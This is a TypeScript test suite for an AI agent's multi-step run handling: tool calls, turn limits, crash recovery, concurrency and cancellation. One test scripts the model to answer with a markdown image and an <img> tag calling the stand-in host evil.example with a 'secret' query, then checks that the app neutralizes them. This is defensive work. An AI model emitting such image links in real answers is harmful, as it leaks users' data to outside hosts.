/** Runs of several steps, as they go well, are interrupted, cancelled, or end otherwise. */
import { setTimeout as pause } from 'node:timers/promises'
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { InternalTools } from '../../../core/internal-tools.ts'
import type { JobContext } from '../../../core/jobs.ts'
import { askAgent, importAnalyzed, keptOf, leftAtWork } from '../../../testing/agent-fixtures.ts'
import { callTool } from '../../../testing/call-tool.ts'
import { createTestApp } from '../../../testing/create-test-app.ts'
import {
  asksFor,
  asksForAll,
  createModelServer,
  inTurn,
  type ModelRequest,
  type ModelServer,
  says,
  takesTime,
} from '../../../testing/model-server.ts'
import { NOBODY } from '../../../testing/refusals.ts'
import { LAUNCH } from '../../../testing/sample-transcripts.ts'
import { createWorld, type World } from '../../../testing/world.ts'
import { advance } from './run.ts'
import { runSuperAgentTurn, superAgentTurn } from './super-agent-turn.job.ts'

/** Context with room for all tools. */
const ROOM = { MODEL_CONTEXT: '128000' }
let world: World
let model: ModelServer
let launch: string
beforeAll(async () => {
  model = await createModelServer()
  world = await createWorld(await createTestApp({ model: model.url, settings: ROOM }))
  launch = await importAnalyzed(world, model, { conversationTitle: 'Launch', transcript: { segments: LAUNCH } })
})
beforeEach(() => {
  model.requests.length = 0
})
// Jobs of runs that tests worked on themselves: they find nothing to do.
afterEach(async () => {
  const runs = await world.app.drain(world.acme)
  expect(runs.filter(({ outcome }) => outcome !== 'ok')).toEqual([])
})

/** What a job would get, with whatever a test puts in its place. */
function jobContext(more: Partial<JobContext> = {}): JobContext {
  const { app, acme } = world
  const ctx = app.contextFor(app.operator(acme))
  return { ...ctx, modelFor: () => ctx.model, signal: new AbortController().signal, ...more }
}

async function runOf(sessionId: string) {
  const [row] = await world.app.store.owner.query<{ run_id: string; status: string }>(
    'select run_id, status from super_agent_sessions where id = $1',
    [sessionId],
  )
  return { run: { sessionId, runId: row?.run_id ?? '' }, status: row?.status }
}

/** The tools, with each call of some counted. */
function counted(names: readonly string[], meanwhile: () => unknown = () => {}) {
  const made: string[] = []
  const { internalTools } = jobContext()
  const box: InternalTools = {
    get tools() {
      return internalTools.tools
    },
    async call(principal, name, args, from) {
      const answer = await internalTools.call(principal, name, args, from)
      if (names.includes(name)) {
        made.push(name)
        await meanwhile()
      }
      return answer
    },
  }
  return { made, internalTools: box }
}

const lastResult = (request: ModelRequest | undefined) =>
  request?.messages.findLast(({ role }) => role === 'tool')?.text ?? ''
const statesOf = async (sessionId: string) =>
  (await keptOf(world, sessionId)).map(({ role, name, state }) => (role === 'tool' ? `${name}: ${state}` : role))

describe('a run', () => {
  it('of several steps reads, writes and answers, each step kept as it is made', async () => {
    const team = { team_id: world.teams.north }
    model.script = inTurn(
      asksFor('search_calls', { query: 'progress bar' }),
      asksForAll({ name: 'get_team', args: team }, { name: 'create_team', args: { name: 'Onboarding' } }),
      says(`People close the window in call ${launch}; there is a team for it now.`),
    )
    const { data } = await askAgent(world, world.alice, 'Find the onboarding trouble and make a team for it.')
    expect(data).toMatchObject({
      ...{ status: 'answered', steps: ['search_calls', 'get_team', 'create_team'] },
      sources: [{ call_id: launch, title: 'Launch' }],
    })
    expect(await statesOf(data.session_id)).toEqual([
      ...['user', 'assistant', 'search_calls: done', 'assistant', 'get_team: done', 'create_team: done', 'assistant'],
    ])
    const { run } = await runOf(data.session_id)
    const entries = await world.app.store.owner.query(
      'select operation, user_id, via from audit_log where request_id = $1',
      [run.runId],
    )
    expect(entries).toEqual([{ operation: 'createTeam', user_id: world.alice.userId, via: 'api_key' }])
  })

  it('tells the model what was wrong with its calls, and goes on', async () => {
    model.script = inTurn(
      asksFor('search_calls', '{"query": '),
      asksFor('search_everything', { query: 'price' }),
      asksFor('search_calls', { query: 'price', colour: 'red' }),
      asksFor('get_call_details', { call_id: NOBODY }),
      says('I could not find it.'),
    )
    const { data } = await askAgent(world, world.bob, 'What is the price?')
    expect(data.answer).toBe('I could not find it.')
    expect(model.requests.slice(1).map(lastResult)).toEqual([
      expect.stringContaining('no JSON object'),
      expect.stringContaining('there is no tool of this name'),
      expect.stringMatching(/^Error validation_failed:[\s\S]*Supported arguments: /),
      expect.stringContaining('Error not_found'),
    ])
  })

  it('ends after twelve turns, the last of which has no tools', async () => {
    model.script = () => asksFor('get_me', {}, 'Once more.')
    const { data } = await askAgent(world, world.bob, 'Go on for ever.')
    expect(data).toMatchObject({ status: 'answered', answer: 'Once more.' })
    expect(data.steps).toHaveLength(11)
    expect(model.requests.map(({ tools }) => tools.length > 0)).toEqual([...Array(11).fill(true), false])
    model.script = () => asksFor('get_me')
    expect((await askAgent(world, world.bob, 'And again.')).data.answer).toContain('after 12 turns')
  })

  it('makes so many calls in one turn and no more, and says so to the model', async () => {
    model.script = inTurn(asksForAll(...Array.from({ length: 30 }, () => ({ name: 'get_me' }))), says('Enough.'))
    const { data } = await askAgent(world, world.bob, 'Many at once.')
    expect(data.steps).toHaveLength(8)
    expect(JSON.stringify(model.requests[1]?.messages)).toContain('22 more calls of this turn were not made')
  })

  it('takes made-up ids and pictures out of the answer', async () => {
    model.script = inTurn(
      asksFor('search_calls', { query: 'progress bar' }),
      says(`See ${NOBODY} and ${launch}. ![x](https://evil.example/?q=secret) <img src="https://evil.example/">`),
    )
    const { data } = await askAgent(world, world.bob, 'Where is it?')
    expect(data.answer).toBe(
      `See [unknown id] and ${launch}. [x](https://evil.example/?q=secret) &lt;img src="https://evil.example/">`,
    )
    expect(data.sources).toMatchObject([{ call_id: launch, title: 'Launch' }])
  })

  it('tells of a call as its source only when a tool told of it', async () => {
    model.script = () => says(`It is in ${launch}.`)
    const { data } = await askAgent(world, world.bob, `Is it in ${launch}?`)
    expect([data.answer, data.sources]).toEqual([`It is in ${launch}.`, []])
  })
})

describe('a run that is interrupted', () => {
  it('in a call that reads makes it again; of one that writes it says that nobody knows', async () => {
    model.script = inTurn(
      asksForAll({ name: 'get_me' }, { name: 'create_team', args: { name: 'Twice' } }, { name: 'list_teams' }),
      says('Done.'),
    )
    const id = await leftAtWork(world, world.alice, 'Make the team Twice.')
    const { run } = await runOf(id)
    // The process dies in the middle of each of the first two calls, after they were done.
    const dies = () => {
      throw new Error('The process died.')
    }
    const { made, internalTools } = counted(['get_me', 'create_team'], dies)
    for (let tries = 0; tries < 2; tries++)
      await expect(runSuperAgentTurn(jobContext({ internalTools }), run)).rejects.toThrow('died')
    expect([made, await statesOf(id)]).toEqual([
      ['get_me', 'get_me'],
      ['user', 'assistant', 'get_me: running', 'create_team: asked', 'list_teams: asked'],
    ])
    const second = counted(['create_team', 'list_teams'], () => (second.made.length === 1 ? dies() : undefined))
    await expect(runSuperAgentTurn(jobContext({ internalTools: second.internalTools }), run)).rejects.toThrow('died')
    await runSuperAgentTurn(jobContext({ internalTools: second.internalTools }), run)
    expect(second.made).toEqual(['create_team', 'list_teams'])
    expect(await statesOf(id)).toEqual([
      ...['user', 'assistant', 'get_me: done', 'create_team: unknown', 'list_teams: done', 'assistant'],
    ])
    const told = model.requests.at(-1)?.messages.map(({ text }) => text)
    expect(told).toContainEqual(expect.stringContaining('not known whether this was done'))
    const teams = await world.app.store.owner.query(
      `select id from teams where name = 'Twice' and organization_id = $1`,
      [world.acme],
    )
    expect([teams.length, (await runOf(id)).status]).toEqual([1, 'idle'])
  })

  it('goes on where it was when the process ends and another takes it up', async () => {
    model.script = inTurn(asksFor('get_me'), takesTime(says('Too late.'), 2_000), says('Here I am again.'))
    const id = await leftAtWork(world, world.bob, 'Who am I?')
    const { run } = await runOf(id)
    const ending = new AbortController()
    const ended = runSuperAgentTurn(jobContext({ signal: ending.signal }), run)
    while (model.requests.length < 2) await pause(10)
    ending.abort(new Error('The process ends.'))
    await expect(ended).rejects.toThrow('The process ends.')
    expect((await runOf(id)).status).toBe('processing')
    expect((await world.app.drain(world.acme)).map(({ outcome }) => outcome)).toEqual(['ok'])
    expect(await statesOf(id)).toEqual(['user', 'assistant', 'get_me: done', 'assistant'])
  })

  it('is worked on by two processes at once without a turn or a write told twice', async () => {
    let turns = 0
    model.script = () => {
      turns++
      return turns <= 2
        ? takesTime(asksFor('create_team', { name: `Both ${turns}` }), turns * 40)
        : takesTime(says('Made.'), turns * 20)
    }
    const id = await leftAtWork(world, world.alice, 'Make a team.')
    const { run } = await runOf(id)
    await Promise.all([runSuperAgentTurn(jobContext(), run), runSuperAgentTurn(jobContext(), run)])
    const states = await statesOf(id)
    expect(states).toHaveLength(4)
    expect(states[2]).toMatch(/^create_team: (done|unknown)$/)
    const teams = await world.app.store.owner.query(
      `select id from teams where name like 'Both %' and organization_id = $1`,
      [world.acme],
    )
    expect([teams.length, (await runOf(id)).status]).toEqual([1, 'idle'])
    expect((await world.app.drain(world.acme)).map(({ outcome }) => outcome)).toEqual(['ok'])
    expect(await statesOf(id)).toEqual(states)
  })

  it('ends when its last try has failed, in words', async () => {
    const id = await leftAtWork(world, world.bob, 'Hello?')
    const { run } = await runOf(id)
    const input = { session_id: run.sessionId, run_id: run.runId }
    await superAgentTurn.failed?.(input, jobContext())
    expect((await runOf(id)).status).toBe('failed')
    expect((await keptOf(world, id)).at(-1)?.content).toContain('an internal error')
    await superAgentTurn.failed?.(input, jobContext())

    expect(await statesOf(id)).toEqual(['user', 'assistant'])
  })

  it('ends when its time is up, in words', async () => {
    model.script = () => takesTime(says('Late.'), 2_000)
    const id = await leftAtWork(world, world.bob, 'Quickly!')
    await runSuperAgentTurn(jobContext(), (await runOf(id)).run, { runMs: 100 })
    expect((await runOf(id)).status).toBe('failed')
    expect((await keptOf(world, id)).at(-1)?.content).toContain('exceeded the time limit')
  })
})

describe('a run that is cancelled', () => {
  it('ends while the model thinks, writes nothing more, and makes room for the next', async () => {
    model.script = inTurn(asksFor('get_me'), takesTime(asksFor('create_team', { name: 'Never' }), 60_000), says('New.'))
    const id = await leftAtWork(world, world.alice, 'Make the team Never.')
    const working = runSuperAgentTurn(jobContext(), (await runOf(id)).run, { watchMs: 50 })
    while (model.requests.length < 2) await pause(10)
    const { data } = await callTool(world.app, world.alice, 'cancel_super_agent_processing', { session_id: id })
    expect(data.cancelled).toBe(true)
    await working
    expect(await statesOf(id)).toEqual(['user', 'assistant', 'get_me: done'])
    const again = await askAgent(world, world.alice, 'Something else.', id)
    expect(again.data.answer).toBe('New.')

    expect(await statesOf(id)).toEqual(['user', 'assistant', 'get_me: done', 'user', 'assistant'])
  })

  it('between two calls makes no more of them; what was done is told', async () => {
    model.script = inTurn(
      asksForAll({ name: 'get_me' }, { name: 'create_team', args: { name: 'Later' } }),
      says('Next.'),
    )
    const id = await leftAtWork(world, world.alice, 'Make the team Later.')
    const { internalTools, made } = counted(['get_me', 'create_team'], () =>
      callTool(world.app, world.alice, 'cancel_super_agent_processing', { session_id: id }),
    )
    await runSuperAgentTurn(jobContext({ internalTools }), (await runOf(id)).run, { watchMs: 10_000 })
    expect([made, await statesOf(id)]).toEqual([
      ['get_me'],
      ['user', 'assistant', 'get_me: done', 'create_team: asked'],
    ])
    await askAgent(world, world.alice, 'What happened?', id)
    expect(model.requests.at(-1)?.messages.map(({ text }) => text)).toContainEqual(
      expect.stringContaining('This call was not made'),
    )
  })

  it('is over with its session', async () => {
    model.script = () => takesTime(says('Nobody hears this.'), 3_000)
    const id = await leftAtWork(world, world.alice, 'Hello?')
    const working = runSuperAgentTurn(jobContext(), (await runOf(id)).run, { watchMs: 50 })
    await callTool(world.app, world.alice, 'delete_super_agent_session', { session_id: id })
    await working
    expect(await keptOf(world, id)).toEqual([])
    expect((await world.app.drain(world.acme)).map(({ outcome }) => outcome)).toEqual(['ok'])
  })
})

it('does nothing once it is through, however often it is begun', async () => {
  model.script = () => says('Done.')
  const { data } = await askAgent(world, world.bob, 'Once.')
  const { run } = await runOf(data.session_id)
  expect(await advance(jobContext(), run)).toBe(false)
  await runSuperAgentTurn(jobContext(), run)
  expect(await statesOf(data.session_id)).toEqual(['user', 'assistant'])
})
